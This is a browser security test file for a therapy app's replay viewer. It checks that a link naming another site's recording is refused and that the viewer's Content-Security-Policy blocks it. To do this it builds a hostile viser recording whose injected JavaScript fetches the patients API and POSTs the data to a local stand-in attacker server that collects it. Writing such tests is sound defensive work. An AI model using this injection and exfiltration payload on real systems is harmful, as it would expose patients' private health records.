"""A link to the replay viewer that names another site's recording: viser's client would play it on the app's
origin, and a recording can carry JavaScript that then reads the patients through the API with the
signed-in user's cookie. The viewer answers only a session's own replay, and its Content-Security-Policy keeps its
connections on the app's origin even if it did not."""

from __future__ import annotations

import contextlib
import io
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

import pytest

from tests.frontend.conftest import THERAPIST, login, newest_session_id

pytestmark = pytest.mark.browser


def _hostile_recording(collect_url: str) -> bytes:
    """Returns a viser scene recording carrying JavaScript (RunJavascriptMessage, which viser's client runs with
    Function()) that sends the caller's patients to collect_url."""
    import viser
    from viser import _messages

    steal = (f"fetch('/api/v1/patients').then(r=>r.text())"
             f".then(t=>fetch('{collect_url}',{{method:'POST',mode:'no-cors',body:t}}))")  # fmt: skip
    with contextlib.redirect_stdout(io.StringIO()):
        server = viser.ViserServer(host="127.0.0.1", port=0, verbose=False)
    try:
        serializer = server.get_scene_serializer()
        # viser's public API sends this message only with plotly.js in it; an attacker writes the file directly
        server._websock_server.queue_message(_messages.RunJavascriptMessage(source=steal))
        serializer.insert_sleep(0.5)
        return serializer.serialize()
    finally:
        with contextlib.redirect_stdout(io.StringIO()):
            server.stop()


@pytest.fixture(scope="module")
def attacker():
    """Another site on 127.0.0.1: serves the hostile recording to anyone (CORS *) and keeps what is posted to it."""
    stolen: list[str] = []
    holder: dict[str, bytes] = {}

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - http.server's name
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "application/octet-stream")
            self.end_headers()
            self.wfile.write(holder["recording"])

        def do_POST(self):  # noqa: N802
            stolen.append(self.rfile.read(int(self.headers.get("content-length", 0))).decode(errors="replace"))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args):
            pass

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    base = f"http://127.0.0.1:{httpd.server_address[1]}"
    holder["recording"] = _hostile_recording(f"{base}/collect")
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield base, stolen
    finally:
        httpd.shutdown()
        httpd.server_close()


def _signed_in(page) -> None:
    login(page, THERAPIST)
    page.wait_for_url("**/therapist")


def test_a_link_naming_another_sites_recording_reads_nothing(page, live_server, attacker):
    base, stolen = attacker
    stolen.clear()
    _signed_in(page)
    response = page.goto("/replay/viewer/?playbackPath=" + quote(f"{base}/x.viser", safe=""))
    page.wait_for_load_state("networkidle")  # whatever the answer loads has been asked for
    assert not stolen, f"patient data left the app: {stolen[0][:200]}"
    assert response.status == 404


def test_the_viewers_policy_blocks_another_sites_recording(page, live_server, attacker):
    """The second wall: the viewer served (with its real headers) at a URL that names the other site's recording."""
    base, stolen = attacker
    stolen.clear()
    _signed_in(page)
    own = f"{live_server.url}/replay/viewer/?playbackPath=" + quote(
        f"/api/v1/sessions/{newest_session_id(live_server.url, THERAPIST)}/replay", safe=""
    )
    page.route("**/replay/viewer/?playbackPath=http*", lambda route: route.fulfill(response=route.fetch(url=own)))
    blocked: list[str] = []
    page.on("console", lambda m: blocked.append(m.text) if "Content Security Policy" in m.text else None)
    with page.expect_console_message(lambda m: "Content Security Policy" in m.text and base in m.text, timeout=30_000):
        page.goto("/replay/viewer/?playbackPath=" + quote(f"{base}/x.viser", safe=""))
    page.wait_for_load_state("networkidle")
    assert not stolen, f"patient data left the app: {stolen[0][:200]}"
    assert any(base in m for m in blocked), blocked
